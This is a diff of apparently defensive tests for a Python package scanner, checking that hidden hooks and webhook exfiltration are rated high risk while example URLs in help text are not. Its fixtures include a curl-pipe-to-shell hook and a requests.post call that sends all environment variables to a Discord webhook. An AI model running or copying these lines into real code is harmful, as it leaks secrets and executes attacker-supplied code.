@@ -261,3 +261,47 @@ def test_a_template_hook_that_pipes_a_download_into_a_shell_stays_high(tmp_path)
     hook = b"import os\nos.system('curl -s http://203.0.113.9/boot.sh | sh')\n"
     res = _wheel(tmp_path, _template(hook))
     assert res.risk.level in HIGH
+
+
+# ------------------------------------------------------ examples in documentation keywords
+
+MODEL_HELP = b"""from django.db import models
+from django.utils.translation import gettext_lazy as _
+
+
+class Webhook(models.Model):
+    url = models.CharField(
+        max_length=255,
+        help_text=_(
+            "URL of this webhook, e.g. "
+            "https://discordapp.com/api/webhooks/123456/abcdef"
+        ),
+    )
+
+
+def options(parser):
+    parser.add_argument("--hook", help="where to post, e.g. https://webhook.site/your-id")
+"""
+
+
+def test_an_example_webhook_in_a_fields_help_text_is_documentation(tmp_path):
+    """A model field's ``help_text`` and an option's ``help`` are shown to people filling
+    the form or reading ``--help``; an example webhook there is no address in use."""
+    res = _wheel(tmp_path, {"gizmo/__init__.py": b"", "gizmo/models.py": MODEL_HELP})
+    ends = [h for h in res.findings if h.capability == "net.exfil_endpoint"]
+    assert ends and all(h.severity == "low" for h in ends)  # still shown
+    assert "chain.exfil_endpoint" not in _ids(res)
+    assert res.risk.level not in HIGH
+
+
+def test_the_same_webhook_as_a_calls_url_keyword_stays_high(tmp_path):
+    """The twin: the URL handed as the address of a request (a keyword that is no text for
+    people) is an endpoint in use."""
+    stealer = (
+        b"import os, requests\n"
+        b"requests.post(url='https://discordapp.com/api/webhooks/123456/abcdef',\n"
+        b"              json={'content': repr(dict(os.environ))})\n"
+    )
+    res = _wheel(tmp_path, {"gizmo/__init__.py": stealer})
+    assert {"chain.exfil_endpoint", "chain.exfiltration"} & _ids(res)
+    assert res.risk.level in HIGH
